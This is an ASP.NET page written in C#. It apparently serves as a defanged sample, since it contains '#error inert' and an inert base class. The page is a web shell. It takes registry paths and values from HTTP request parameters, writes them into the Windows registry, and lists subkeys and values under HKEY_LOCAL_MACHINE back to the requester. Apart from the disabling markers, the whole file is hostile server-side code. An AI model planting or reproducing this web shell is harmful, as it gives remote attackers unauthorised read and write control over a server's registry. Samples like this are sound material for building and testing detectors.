<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%@ Import Namespace="Microsoft.Win32" %>
<%
#error inert
string path = Request["key"];
if (path != null)
{
    if (Request["name"] != null) Registry.SetValue(path, Request["name"], Request["data"]);
    RegistryKey rk = Registry.LocalMachine.OpenSubKey(path.Substring(path.IndexOf('\\') + 1));
    foreach (string s in rk.GetSubKeyNames()) Response.Write("+ " + s + "<br>");
    foreach (string v in rk.GetValueNames()) Response.Write(v + " = " + rk.GetValue(v) + "<br>");
}
%>
